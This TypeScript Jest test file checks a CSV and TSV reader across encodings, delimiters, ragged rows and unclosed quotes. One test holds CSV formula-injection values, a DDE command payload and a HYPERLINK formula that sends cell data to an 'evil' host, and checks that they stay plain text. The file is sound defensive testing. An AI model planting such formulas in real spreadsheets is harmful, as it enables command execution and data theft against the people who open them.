import { readFile } from "node:fs/promises";
import { describe, expect, test } from "@jest/globals";
import { readSheets, readSheetsAgain } from "../testing/sheets.js";
import { converted } from "../testing/tables.js";

const GERMAN = [
  ["id", "name", "date", "amount", "code"],
  [1, "Müller; GmbH", new Date("2026-02-28"), 1234.56, "00123"],
  [2, 'Straße "Ost"', new Date("2025-12-31"), -0.5, "007"],
  [3, "multi\nline", new Date("2026-03-01"), 1000, "1e5"],
];

describe("of every encoding, delimiter and line end the same cells come", () => {
  // A column of codes is text throughout, and so is one of amounts whose comma cannot be a decimal mark.
  const codes = GERMAN.map(([id, name, date, amount, code]) => [id, name, date, amount, code]);
  const texts = ["amount", "1.234,56", "-0,5", "1000"];
  const commas = codes.map(([id, name, date, , code], at) => [id, name, date, texts[at], code]);

  test.each([
    ["comma.csv", commas],
    ["semi-cp1252.csv", codes],
    ["semi-utf8bom.csv", codes],
    ["sep-line.csv", codes],
    ["pipe.csv", codes],
    ["tab.tsv", codes],
    ["tab-utf16le.csv", codes],
    ["tab-utf16be.txt", codes],
  ])("%s", async (name, expected) => {
    const [sheet, ...others] = await readSheets(await converted(await sample(name)));
    expect(sheet?.rows).toEqual(expected);
    expect(others).toEqual([]);
    const [again] = readSheetsAgain(await converted(await sample(name)));
    expect(again?.rows).toEqual(expected.map((row) => row.map((cell) => (cell instanceof Date ? serial(cell) : cell))));
  });
});

test.each([
  [
    "nl-cr.csv",
    [
      ["a", "b"],
      [1, 2],
      [3, 4],
    ],
  ],
  ["ragged.csv", [["a", "b", "c"], [1, 2], [3, 4, 5, 6], [], [7]]],
  [
    "unclosed.csv",
    [
      ["a", "b"],
      ['"x', 1],
      [2, 3],
    ],
  ],
])("lines of any end and length, and a quote that nothing closes, lose nothing: %s", async (name, expected) => {
  const [sheet] = await readSheets(await converted(await sample(name)));
  expect(sheet?.rows).toEqual(expected);
});

test("what begins like a formula is text", async () => {
  const bytes = await converted(await sample("inject.csv"));
  const expected = [
    ["a", "b"],
    ["=cmd|'/c calc'!A1", '=HYPERLINK("http://evil/?"&A1)'],
    ["@SUM(1+1)", "+1+1"],
    ["-2+3", "=1+1"],
  ];
  expect((await readSheets(bytes))[0]?.rows).toEqual(expected);
  expect(readSheetsAgain(bytes)[0]?.rows).toEqual(expected);
});

test("the rows of a usual export are typed cell by cell", async () => {
  const file = await sample("table-1k.csv");
  const [sheet] = await readSheets(await converted(file));
  const lines = file.bytes.toString().trimEnd().split(/\r?\n/).slice(1);
  expect(sheet?.rows.slice(1)).toEqual(lines.map(typedLine));
  expect(lines).toHaveLength(1000);
});

test("prose is one column, a row a line", async () => {
  const file = await sample("notes.txt");
  const [sheet] = await readSheets(await converted(file));
  const lines = file.bytes.toString().replace(/\n$/, "").split("\n");
  expect(sheet?.rows).toEqual(lines.map((line) => (line === "" ? [] : [line])));
});

function typedLine(line: string) {
  const [, id, date, name, code, amount, flag] = /^(\d+),([\d-]+),"(.*)",(\d+),([\d.]+),(\w+)$/.exec(line) ?? [];
  return [Number(id), new Date(date ?? ""), name, code, Number(amount), flag === "true"];
}

async function sample(name: string) {
  const bytes = await readFile(new URL(`../testing/samples/formats/${name}`, import.meta.url));
  return { extension: name.slice(name.lastIndexOf(".") + 1), bytes };
}

function serial(date: Date): number {
  return date.getTime() / 86_400_000 + 25_569;
}
